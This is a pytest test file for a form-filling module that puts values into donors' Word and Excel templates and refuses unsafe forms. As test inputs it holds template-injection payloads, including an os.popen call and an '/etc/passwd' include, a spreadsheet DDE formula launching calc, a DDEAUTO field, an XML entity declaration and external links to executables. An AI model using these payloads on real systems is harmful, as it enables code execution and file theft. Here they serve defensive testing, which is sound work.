"""A donor's own form: its places filled and its looks left alone, and nothing in it that runs, fetches or swells."""

import io
import re
import zipfile
from collections.abc import Callable
from datetime import date
from decimal import Decimal

import docx
import pytest
import xlsxwriter
from docx.document import Document as Word
from docx.opc.constants import RELATIONSHIP_TYPE
from hypothesis import example, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from db.errors import RecordError
from desktop.render.fill import fill_apart, fill_form
from desktop.render.fill_workbook import TooLongForACell
from desktop.render.form_file import FormReachesOut, FormRefused, FormRuns, FormTooLarge, NotAForm
from desktop.render.form_places import FormAsksTooMuch, Unknown
from desktop.render.values import clean
from desktop.reports.document import Bullets, Count, Day, Hidden, Missing, Money, Paragraph, Said, Share
from desktop.reports.places import Filling
from i18n import Words

BRACES = re.compile("[{}]_|_[{}]")  # how docxtpl is told of a brace that is no place
FR, AR = Words.of("fr"), Words.of("ar")
_LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HOSTILE = "=cmd|'/c calc'!A0"
KNOWN: dict[str, Filling] = {
    "people_reached": Count(29117),
    "share": Share(Decimal("0.8249"), 0),
    "spent": Money(Decimal("1234.50"), "EUR"),
    "spent_currency": "EUR",
    "women": Hidden(),
    "disability": Missing("Non collecté"),
    "as_of": Day(date(2026, 3, 5)),
    "partner": Said("منظمة نساء التجربة"),
    "hostile": Said(HOSTILE),
    "reference": Said(""),
    "text_results": (
        Paragraph((Said("Premier <b>point</b> & {{ spent }}"),)),
        Bullets((("Atteintes : ", Count(5)), (Said("fin"),))),
    ),
}


def word(build: Callable[[Word], object]) -> bytes:
    form = docx.Document()
    build(form)
    kept = io.BytesIO()
    form.save(kept)
    return kept.getvalue()


def text(*said: str) -> bytes:
    return word(lambda form: [form.add_paragraph(one) for one in said])


def read(content: bytes) -> Word:
    return docx.Document(io.BytesIO(content))


def workbook(fill_in: Callable[[xlsxwriter.Workbook], object]) -> bytes:
    kept = io.BytesIO()
    with xlsxwriter.Workbook(kept, {"strings_to_formulas": False}) as made:
        fill_in(made)
    return kept.getvalue()


def cells(content: bytes, sheet: int = 0) -> list[list[object]]:
    return (
        CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(sheet).to_python(skip_empty_area=False)
    )


def with_part(content: bytes, name: str, body: bytes) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as target:
        for one in source.namelist():
            if one != name:
                target.writestr(one, source.read(one))
        target.writestr(name, body)
    return kept.getvalue()


def test_a_place_is_filled_wherever_it_stands_even_where_word_cut_it_in_pieces() -> None:
    def build(form: Word) -> None:
        cut = form.add_paragraph("Atteintes : ")
        cut.add_run("{{ people").bold = True
        cut.add_run("_Reached }}")
        form.add_table(1, 1).cell(0, 0).text = "{{spent}} / {{ share }}"
        form.sections[0].header.paragraphs[0].text = "Au {{ as_of }}"
        form.core_properties.title = "{{ people_reached }}"

    done = fill_form(word(build), KNOWN, FR)
    form = read(done.content)
    assert form.paragraphs[0].text == "Atteintes : 29\u202f117"
    assert form.paragraphs[0].runs[1].bold
    assert form.tables[0].cell(0, 0).text == "1\u202f234,50\u00a0EUR / 82\u00a0%"
    assert form.sections[0].header.paragraphs[0].text == "Au 5 mars 2026"
    assert form.core_properties.title == "29\u202f117"
    assert done.filled == ("people_Reached", "spent", "share", "as_of", "people_reached")
    assert done.empty == done.unknown == ()


def test_what_stayed_empty_is_listed_and_seen_and_an_unknown_place_stands_as_it_stood() -> None:
    done = fill_form(text("{{ women }}|{{disability}}|{{ reference }}|{{ people_reachd }}|{{ zzz }}"), KNOWN, FR)
    assert read(done.content).paragraphs[0].text.startswith("[masqué]|Non collecté|[")
    assert read(done.content).paragraphs[0].text.endswith("]|{{ people_reachd }}|{{ zzz }}")
    assert done.empty == ("women", "disability", "reference")
    assert done.unknown == (Unknown("people_reachd", "people_reached"), Unknown("zzz"))


def test_prose_keeps_its_paragraphs_and_the_style_of_its_place_and_is_never_markup() -> None:
    done = fill_form(word(lambda form: form.add_paragraph("{{ text_results }}", style="Quote")), KNOWN, FR)
    said = [(one.text, one.style.name if one.style else "") for one in read(done.content).paragraphs]
    assert said == [
        ("Premier <b>point</b> & {{ spent }}", "Quote"),
        ("• Atteintes : 5", "Quote"),
        ("• fin", "Quote"),
    ]
    assert done.filled == ("text_results",), "a name in a text of ours is no place"


def test_arabic_runs_from_the_right_in_a_form_of_either_direction() -> None:
    for words in (FR, AR):
        run = read(fill_form(text("{{ partner }}"), KNOWN, words).content).paragraphs[0].runs[0]
        assert run.text == "منظمة نساء التجربة"
        assert run.font.rtl
    assert not read(fill_form(text("{{ hostile }}"), KNOWN, AR).content).paragraphs[0].runs[0].font.rtl


@pytest.mark.parametrize(
    "place",
    [
        "{{ cycler.__init__.__globals__.os.popen('touch /tmp/owned').read() }}",
        "{{ ''.__class__.__mro__ }}",
        "{% for one in range(10**9) %}x{% endfor %}",
        "{{ 'a' * 10**9 }}",
        "{{ people_reached | upper }}",
        "{% include '/etc/passwd' %}",
        "{{r partner }}",
        "{{p partner }}",
        "{{ self }}",
        "{{ people reached }}",
        "{{ people_reached",
    ],
)
def test_a_place_that_holds_more_than_a_name_is_refused(place: str) -> None:
    with pytest.raises(FormAsksTooMuch) as refused:
        fill_form(text("{{ partner }}", place, "{{ partner }}"), KNOWN, FR)
    named = str(refused.value.values(FR)["place"])
    assert place[:10] in named or place.startswith(("{{r ", "{{p ")), "the one to put right is named"


def test_no_value_becomes_an_order_to_word() -> None:
    form = text("x")
    body = read(form).element.xml.encode()
    field = b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r></w:p>'
    for order, refused in ((b"DDEAUTO c:\\\\calc.exe", FormRuns), (b"PAGE {{ hostile }}", FormAsksTooMuch)):
        changed = body.replace(b"<w:sectPr", field % order + b"<w:sectPr", 1)
        with pytest.raises(refused):
            fill_form(with_part(form, "word/document.xml", changed), KNOWN, FR)


def _linked(form: Word) -> None:
    form.part.relate_to(
        "https://donor.example/steal.dotm",
        f"{RELATIONSHIP_TYPE.HYPERLINK.rpartition('/')[0]}/attachedTemplate",
        is_external=True,
    )


def _running_link(form: Word) -> None:
    form.part.relate_to("file:///c:/windows/calc.exe", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)


@pytest.mark.parametrize(
    ("made", "refused"),
    [
        (lambda: b"", NotAForm),
        (lambda: b"%PDF-1.7", NotAForm),
        (lambda: b"PK\x03\x04rubbish", NotAForm),
        (lambda: text("x")[:-400], NotAForm),
        (lambda: with_part(text("x"), "word/vbaProject.bin", b"x"), FormRuns),
        (lambda: with_part(text("x"), "word/embeddings/oleObject1.bin", b"x"), FormRuns),
        (lambda: with_part(text("x"), "word/document.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), FormRuns),
        (lambda: with_part(text("x"), "word/extra.xml", b"<a>" + b" " * 40_000_000 + b"</a>"), FormTooLarge),
        (
            lambda: with_part(
                workbook(lambda made: made.add_worksheet()), "xl/externalLinks/externalLink1.xml", b"<a/>"
            ),
            FormRuns,
        ),
        (lambda: word(_linked), FormReachesOut),
        (lambda: word(_running_link), FormReachesOut),
    ],
)
def test_a_form_that_could_do_harm_is_refused_in_one_sentence(
    made: Callable[[], bytes], refused: type[RecordError]
) -> None:
    form = made()
    with pytest.raises(refused) as caught:
        fill_form(form, KNOWN, FR)
    assert isinstance(caught.value, FormRefused)
    sentence = FR.gettext(caught.value.message).format(**caught.value.values(FR))
    assert "\n" not in sentence and "{" not in sentence


def test_a_link_to_a_page_does_no_harm() -> None:
    def build(form: Word) -> None:
        form.part.relate_to("https://donor.example/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
        form.add_paragraph("{{ people_reached }}")

    assert fill_form(word(build), KNOWN, FR).filled == ("people_reached",)


def test_the_address_of_the_template_it_was_made_from_is_taken_off() -> None:
    def build(form: Word) -> None:
        kind = f"{RELATIONSHIP_TYPE.HYPERLINK.rpartition('/')[0]}/attachedTemplate"
        link = form.part._settings_part.relate_to("file:///c:/donor/form.dotx", kind, is_external=True)
        element = form.settings.element
        named = element.makeelement(element.tag.replace("settings", "attachedTemplate"), {})
        named.set(f"{{{element.nsmap.get('r', _LINKS)}}}id", link)
        element.insert(0, named)
        form.add_paragraph("{{ people_reached }}")

    done = fill_form(word(build), KNOWN, FR)
    with zipfile.ZipFile(io.BytesIO(done.content)) as made:
        assert not [one for one in made.namelist() if b"form.dotx" in made.read(one)]
        assert b"attachedTemplate" not in made.read("word/settings.xml")
    assert read(done.content).paragraphs[0].text == "29\u202f117"


def test_a_workbook_keeps_its_looks_and_gets_values_of_their_own_type() -> None:
    def build(made: xlsxwriter.Workbook) -> None:
        sheet, other = made.add_worksheet("L'été"), made.add_worksheet("Autre")
        sheet.right_to_left()
        sheet.write("A1", "{{ people_reached }}", made.add_format({"bold": True, "num_format": "#,##0"}))
        sheet.write("A2", "{{ share }}", made.add_format({"num_format": "0%"}))
        sheet.write("A3", "{{as_of}}", made.add_format({"num_format": "dd/mm/yyyy"}))
        sheet.write("A4", "{{as_of}}")
        sheet.write("A5", "{{ hostile }}")
        sheet.write("A6", "du {{ as_of }} : {{ zzz }}")
        sheet.write("A7", "{{ women }}")
        sheet.write_formula("B1", "=A1*2", value=0)
        made.define_name("people_reached", "='L''été'!$B$1")
        made.define_name("spent", "='L''été'!$D$9")
        made.define_name("Spent_currency", "=Autre!$C$2")
        made.define_name("Region", "=Autre!$A$1:$B$3")
        other.write("A1", "intact")

    form = workbook(build)
    done = fill_form(form, KNOWN, FR)
    first, second = cells(done.content), cells(done.content, 1)
    assert [row[0] for row in first[:7]] == [
        29117.0,
        0.82,
        date(2026, 3, 5),
        "5 mars 2026",
        HOSTILE,
        "du 5 mars 2026 : {{ zzz }}",
        "[masqué]",
    ]
    assert first[8][3] == 1234.5
    assert second == [["intact", "", ""], ["", "", "EUR"]]
    assert (done.empty, done.unknown) == (("women",), (Unknown("zzz"),))
    with zipfile.ZipFile(io.BytesIO(done.content)) as after, zipfile.ZipFile(io.BytesIO(form)) as before:
        sheet = after.read("xl/worksheets/sheet1.xml").decode()
        assert 'rightToLeft="1"' in sheet
        assert "<f>A1*2</f>" in sheet and "<f>A1*2</f><v>" not in sheet, "what a formula said of an empty form is gone"
        assert sheet.count("<f>") == 1, "no text became a formula"
        assert 'quotePrefix="1"' in after.read("xl/styles.xml").decode()
        assert after.namelist() == before.namelist()
        untouched = set(after.namelist()) - {"xl/workbook.xml", "xl/styles.xml"}
        assert all(after.read(one) == before.read(one) for one in untouched if "worksheets" not in one)


def test_a_text_that_no_cell_can_hold_is_refused_and_not_cut() -> None:
    with pytest.raises(TooLongForACell):
        fill_form(SHEET_FORM, {"said": Said("x" * 40_000)}, FR)


def test_a_form_that_says_it_has_macros_is_refused() -> None:
    form = workbook(lambda made: made.add_worksheet())
    with zipfile.ZipFile(io.BytesIO(form)) as parts:
        types = parts.read("[Content_Types].xml")
    macros = types.replace(
        b"openxmlformats-officedocument.spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"
    )
    assert macros != types
    with pytest.raises(FormRuns):
        fill_form(with_part(form, "[Content_Types].xml", macros), KNOWN, FR)


@pytest.mark.parametrize("place", ["{{ a.b }}", "{{ people_reached", "{{ 1 + 1 }}"])
def test_a_workbook_holds_names_and_nothing_else_too(place: str) -> None:
    with pytest.raises(FormAsksTooMuch):
        fill_form(workbook(lambda made: made.add_worksheet().write("A1", place)), KNOWN, FR)


WORD_FORM, SHEET_FORM = text("a {{ said }} b"), workbook(lambda made: made.add_worksheet().write("A1", "{{ said }}"))


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=60))
@example(HOSTILE)
@example("{{ spent }}{% for a in b %}{# c #}")
@example("</w:t><w:t>&amp;<![CDATA[x]]>")
@example("\a\t\x0c{_{ x }_}")
@example("\u202egnp.exe\u2069")
def test_whatever_a_value_says_it_is_that_text_and_nothing_else(said: str) -> None:
    words = [one for one in clean(said).split() if not set(one) & set("\u2066\u2067\u2068\u2069")]
    for form in (WORD_FORM, SHEET_FORM):
        done = fill_form(form, {"said": Said(said)}, FR)
        held = read(done.content).paragraphs if form is WORD_FORM else None
        shown = "\n".join(one.text for one in held) if held else str(cells(done.content)[0][0])
        if said:
            assert all(word in shown for word in words if not BRACES.search(word))
    with zipfile.ZipFile(io.BytesIO(done.content)) as made:
        assert b"<f>" not in made.read("xl/worksheets/sheet1.xml")


def test_a_narrative_of_two_hundred_pages_is_put_in_whole() -> None:
    prose = tuple(Paragraph((Said(f"Paragraphe {number} " + "mot " * 300),)) for number in range(400))
    form = read(fill_form(text("{{ text_results }}"), {"text_results": prose}, FR).content)
    assert len(form.paragraphs) == 400
    assert form.paragraphs[-1].text.startswith("Paragraphe 399 mot")


@pytest.mark.slow
def test_filling_apart_answers_and_refuses() -> None:
    assert fill_apart(text("{{ people_reached }}"), KNOWN, FR).filled == ("people_reached",)
    with pytest.raises(FormAsksTooMuch) as caught:
        fill_apart(text("{{ a.b }}"), KNOWN, FR)
    assert "a.b" in FR.gettext(caught.value.message).format(**caught.value.values(FR))
